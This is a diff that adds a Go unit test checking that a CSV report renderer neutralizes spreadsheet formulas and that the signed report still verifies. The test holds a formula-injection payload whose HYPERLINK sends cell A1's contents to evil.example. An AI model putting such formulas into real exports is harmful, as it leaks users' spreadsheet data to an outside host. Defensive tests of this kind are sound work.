@@ -227,3 +227,25 @@ func FuzzVerify(f *testing.F) {
 		}
 	})
 }
+
+// TestCSVFormulas checks that text in a CSV report that a spreadsheet would run (a drill's
+// error, a restore's target) is written as text, and that the report still verifies.
+func TestCSVFormulas(t *testing.T) {
+	c := newCatalog(t)
+	r := build(t, c, fill(t, c))
+	if len(r.Sources[0].Drills) == 0 {
+		t.Fatal("the fixture has no drill")
+	}
+	formula := `=HYPERLINK("http://evil.example/?"&A1,"open")`
+	r.Sources[0].Drills[0].Error = formula
+	out, err := report.Render(r, "csv", testKey)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if bytes.Contains(out, []byte(`,"=HYPERLINK`)) || !bytes.Contains(out, []byte(`,"'=HYPERLINK`)) {
+		t.Errorf("the drill error is not written as text:\n%s", out)
+	}
+	if _, err := report.Verify(out, testKey.Public().(ed25519.PublicKey)); err != nil {
+		t.Errorf("Verify(report with a neutralized formula) = %v", err)
+	}
+}
